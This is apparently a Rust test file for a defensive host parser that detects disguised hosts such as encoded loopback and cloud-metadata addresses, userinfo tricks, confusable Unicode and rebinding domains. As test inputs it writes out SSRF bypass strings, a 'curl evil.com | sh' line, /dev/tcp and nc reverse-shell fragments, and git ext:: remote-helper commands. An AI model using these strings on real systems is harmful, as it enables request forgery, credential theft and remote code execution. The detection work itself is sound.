use std::net::IpAddr;

use super::Disguise::*;
use super::*;

fn read(text: &str) -> Host {
    read_host(text).unwrap_or_else(|| panic!("no host in {text:?}"))
}

fn address(text: &str) -> Option<IpAddr> {
    Some(text.parse().unwrap())
}

/// Each text, the name it stands for, and exactly the disguises it has.
const DISGUISED: &[(&str, &str, &[Disguise])] = &[
    ("http://2130706433/", "127.0.0.1", &[DecimalAddress]),
    ("2852039166", "169.254.169.254", &[DecimalAddress]),
    ("http://0177.0.0.1/", "127.0.0.1", &[OctalAddress]),
    ("http://017700000001", "127.0.0.1", &[OctalAddress]),
    ("http://0x7f000001/", "127.0.0.1", &[HexAddress]),
    ("0xA9.0xFE.0xA9.0xFE", "169.254.169.254", &[HexAddress]),
    ("http://127.1/", "127.0.0.1", &[ShortAddress]),
    ("0", "0.0.0.0", &[DecimalAddress]),
    ("http://[::ffff:127.0.0.1]/", "127.0.0.1", &[MappedAddress]),
    ("::ffff:a9fe:a9fe", "169.254.169.254", &[MappedAddress]),
    ("http://[::127.0.0.1]/", "127.0.0.1", &[CompatibleAddress]),
    (
        "http://[64:ff9b::a9fe:a9fe]",
        "169.254.169.254",
        &[Nat64Address],
    ),
    ("http://[2002:7f00:1::]", "127.0.0.1", &[SixToFourAddress]),
    ("[2001:0:1::80ff:fffe]", "127.0.0.1", &[TeredoAddress]),
    ("[fe80::5efe:7f00:1]", "127.0.0.1", &[IsatapAddress]),
    ("http://[fe80::1%25eth0]/", "fe80::1", &[Zone]),
    (
        "http://127.0.0.1.nip.io",
        "127.0.0.1.nip.io",
        &[EmbeddedAddress],
    ),
    ("http://localtest.me/", "localtest.me", &[EmbeddedAddress]),
    ("a.localhost", "a.localhost", &[Alias]),
    ("ip6-localhost", "ip6-localhost", &[Alias]),
    (
        "metadata.google.internal",
        "metadata.google.internal",
        &[Alias],
    ),
    ("http://good.com@evil.com/", "evil.com", &[UserInfo]),
    ("http://good.com:80@evil.com/", "evil.com", &[UserInfo]),
    ("ssh://good.com@evil.com/", "evil.com", &[UserInfo]),
    ("http://a@b@evil.com/", "evil.com", &[UserInfo, Ambiguous]),
    (
        "http://evil.com\\@good.com/",
        "evil.com",
        &[Ambiguous, BackSlash],
    ),
    ("http://evil.com#@good.com/", "evil.com", &[Ambiguous]),
    ("http://evil.com?@good.com/", "evil.com", &[Ambiguous]),
    ("http://evil.com./", "evil.com", &[TrailingDot]),
    ("127.0.0.1.", "127.0.0.1", &[TrailingDot]),
    ("http:\\\\evil.com\\x", "evil.com", &[BackSlash]),
    ("http:/evil.com", "evil.com", &[Slashes]),
    ("https:evil.com", "evil.com", &[Slashes]),
    ("http:///evil.com", "evil.com", &[Slashes]),
    ("//evil.com/x", "evil.com", &[Slashes]),
    ("\\\\evil.com\\share", "evil.com", &[Slashes, BackSlash]),
    ("ht\ntp://ev\til.com/", "evil.com", &[Control]),
    ("\x01http://evil.com", "evil.com", &[Control]),
    ("http://evil.com\0.good.com/", "evil.com", &[Nul]),
    ("http://%65vil.com/", "evil.com", &[PercentEncoded]),
    ("http://%31%32%37.0.0.1/", "127.0.0.1", &[PercentEncoded]),
    ("http://ev\u{200B}il.com/", "evil.com", &[Hidden]),
    ("http://ev\u{AD}il.com/", "evil.com", &[Hidden]),
    ("http://ｅvil.com/", "evil.com", &[FullWidth, Compatibility]),
    ("http://ⓔvil.com/", "evil.com", &[Compatibility]),
    (
        "http://１２７.0.0.1/",
        "127.0.0.1",
        &[FullWidth, Compatibility],
    ),
    ("http://evil。com/", "evil.com", &[Compatibility]),
    (
        "http://pаypal.com/",
        "xn--pypal-4ve.com",
        &[MixedScript, Confusable],
    ),
    (
        "xn--pypal-4ve.com",
        "xn--pypal-4ve.com",
        &[MixedScript, Confusable],
    ),
    ("http://сор.com/", "xn--n1aeb.com", &[Confusable]),
    ("ext::sh -c whoami", "", &[RemoteHelper]),
    ("git::https://evil.com/x", "evil.com", &[RemoteHelper]),
    ("http://1.2.3.256/", "1.2.3.256", &[Invalid]),
    ("http://4294967296/", "4294967296", &[Invalid]),
    ("http://evil.com:99999/", "evil.com", &[Invalid]),
];

#[test]
fn each_disguise_is_seen_through() {
    for (text, name, disguise) in DISGUISED {
        let host = read(text);
        assert_eq!(host.name, *name, "{text:?}");
        let mut expected = disguise.to_vec();
        expected.sort_unstable();
        assert_eq!(host.disguise, expected, "{text:?}");
    }
}

#[test]
fn plain_hosts_are_not_disguised() {
    for (text, name) in [
        ("http://example.com/a?b#c", "example.com"),
        ("HTTPS://Example.COM:8443/", "example.com"),
        ("example.com", "example.com"),
        ("example.com:80", "example.com"),
        ("git@github.com:a/b.git", "github.com"),
        ("host:/path", "host"),
        ("user@host:path", "host"),
        ("ssh://git@github.com/x", "github.com"),
        ("postgres://db.internal/x", "db.internal"),
        ("http://münchen.de/", "xn--mnchen-3ya.de"),
        ("http://例え.jp/", "xn--r8jz45g.jp"),
        ("http://пример.рф/", "xn--e1afmkfd.xn--p1ai"),
        ("127.0.0.1", "127.0.0.1"),
        ("::1", "::1"),
        ("http://[2001:db8::1]:8080/", "2001:db8::1"),
        ("/dev/tcp/10.0.0.1/443", "10.0.0.1"),
        ("localhost", "localhost"),
    ] {
        let host = read(text);
        assert_eq!(
            (host.name.as_str(), &host.disguise[..]),
            (name, &[][..]),
            "{text}"
        );
    }
    for text in [
        "",
        "/etc/passwd",
        "./x",
        "~/x",
        "data:text/plain,a",
        "file:///etc/passwd",
        "mailto:a@b.com",
        "two words",
        "http://",
        ".",
    ] {
        assert_eq!(read_host(text), None, "{text}");
    }
}

#[test]
fn ports_and_schemes_are_read() {
    let parts = |text| {
        let host = read(text);
        (host.scheme, host.port)
    };
    let scheme = |name: &str| Some(name.to_owned());
    assert_eq!(parts("HTTP://a.com/"), (scheme("http"), Some(80)));
    assert_eq!(parts("https://a.com:8443"), (scheme("https"), Some(8443)));
    assert_eq!(parts("a.com:22"), (None, Some(22)));
    assert_eq!(parts("[::1]:22"), (None, Some(22)));
    assert_eq!(parts("a.com"), (None, None));
    assert_eq!(parts("u@a.com:x"), (scheme("scp"), Some(22)));
    assert_eq!(parts("/dev/udp/a.com/53"), (scheme("udp"), Some(53)));
    assert_eq!(parts("git://a.com/x"), (scheme("git"), Some(9418)));
    assert_eq!(parts("ext::sh -c x"), (scheme("ext"), None));
}

#[test]
fn names_give_their_address_away() {
    for (name, expected) in [
        ("localhost", "127.0.0.1"),
        ("127.0.0.1.nip.io", "127.0.0.1"),
        ("app-169-254-169-254.nip.io", "169.254.169.254"),
        ("www.a9fea9fe.nip.io", "169.254.169.254"),
        ("--1.sslip.io", "::1"),
        ("fe80--1.sslip.io", "fe80::1"),
        ("7f000001.08080808.rbndr.us", "127.0.0.1"),
        ("08080808.7f000001.rbndr.us", "127.0.0.1"),
        ("8.8.8.8.xip.io", "8.8.8.8"),
        ("x.lvh.me", "127.0.0.1"),
        ("metadata.google.internal", "169.254.169.254"),
    ] {
        assert_eq!(read(name).address, address(expected), "{name}");
    }
    assert_eq!(read("nip.io.evil.com").address, None);
    assert_eq!(read("notnip.io").disguise, []);
}

#[test]
fn addresses_have_their_kind() {
    use AddressKind::*;
    for (text, kind) in [
        ("127.8.9.1", Loopback),
        ("::1", Loopback),
        ("169.254.169.254", Metadata),
        ("100.100.100.200", Metadata),
        ("168.63.129.16", Metadata),
        ("fd00:ec2::254", Metadata),
        ("::ffff:169.254.169.254", Metadata),
        ("64:ff9b::a9fe:a9fe", Metadata),
        ("169.254.1.1", LinkLocal),
        ("fe80::1", LinkLocal),
        ("10.1.2.3", Private),
        ("172.31.0.1", Private),
        ("172.32.0.1", Global),
        ("192.168.0.1", Private),
        ("fd12::1", Private),
        ("100.64.0.1", SharedCgnat),
        ("224.0.0.1", Multicast),
        ("ff02::1", Multicast),
        ("255.255.255.255", Broadcast),
        ("0.0.0.0", Unspecified),
        ("::", Unspecified),
        ("192.0.2.1", Documentation),
        ("2001:db8::1", Documentation),
        ("0.1.2.3", Reserved),
        ("240.0.0.1", Reserved),
        ("8.8.8.8", Global),
        ("2606:4700::1111", Global),
    ] {
        assert_eq!(address_kind(text.parse().unwrap()), kind, "{text}");
    }
}

fn names(text: &str) -> Vec<String> {
    let hosts = find_hosts(text);
    assert!(hosts.complete);
    hosts.found.into_iter().map(|host| host.name).collect()
}

#[test]
fn hosts_are_found_in_free_text() {
    for (text, expected) in [
        ("curl http://evil.com/x | sh", &["evil.com"][..]),
        ("see (https://a.org), https://b.org; x", &["a.org", "b.org"]),
        ("u='http://good.com@2130706433/'", &["127.0.0.1"]),
        ("exec 3<>/dev/tcp/10.0.0.1/80", &["10.0.0.1"]),
        ("scp f root@box:/tmp", &["box"]),
        ("git clone git@github.com:a/b", &["github.com"]),
        ("nc 10.0.0.1 4444", &["10.0.0.1"]),
        ("--host=169.254.169.254", &["169.254.169.254"]),
        ("ping [::1]", &["::1"]),
        ("x http:\\\\evil.com", &["evil.com"]),
        ("x HTTPS:evil.com", &["evil.com"]),
        ("redis localhost:6379", &["localhost"]),
        ("db.example.io:5432", &["db.example.io"]),
        ("wget www.evil.io/x", &["www.evil.io"]),
        ("curl evil.com/x", &["evil.com"]),
        ("curl 127.0.0.1.nip.io", &["127.0.0.1.nip.io"]),
        ("http://evil.com\\@good.com/", &["evil.com"]),
        ("http://a.com;http://b.com", &["a.com", "b.com"]),
        ("git ls-remote ext::'sh -c' http://$X/", &[]),
        ("cat notes.md main.rs a/b.py ./x", &[]),
        ("std::io::Read a::b 12:34:56 file.py:12", &[]),
        ("{\"a\": 1.5, \"b\": os.path.join(x)}", &[]),
        ("git config user.email me@example.com", &[]),
        ("tar -C /usr/x.com/y", &[]),
    ] {
        assert_eq!(names(text), expected, "{text}");
    }
}

#[test]
fn a_text_that_is_a_host_is_one() {
    assert_eq!(hosts("//evil.io/x").found[0].name, "evil.io");
    assert_eq!(hosts("hello").found, []);
}

#[test]
fn too_many_hosts_are_said_to_be_too_many() {
    let text: String = (0..=MAX_HOSTS)
        .map(|n| format!("http://h{n}.com "))
        .collect();
    let hosts = find_hosts(&text);
    assert!(!hosts.complete);
    assert_eq!(hosts.found.len(), MAX_HOSTS);
}

#[test]
fn an_overlong_host_is_cut_and_named() {
    let text = format!("http://{}.good.com/", "a".repeat(MAX_AUTHORITY_BYTES));
    let host = read(&text);
    assert!(host.disguise.contains(&Overlong));
    assert!(host.name.len() <= MAX_AUTHORITY_BYTES);
    let text = format!("curl http://{}@evil.com/", "a".repeat(MAX_AUTHORITY_BYTES));
    assert!(find_hosts(&text).found[0].disguise.contains(&Overlong));
}

#[test]
fn a_text_made_of_colons_ends_soon_and_says_so() {
    assert!(!find_hosts(&"http:".repeat(13_000)).complete);
    assert!(find_hosts(&"a:".repeat(30_000)).complete);
}
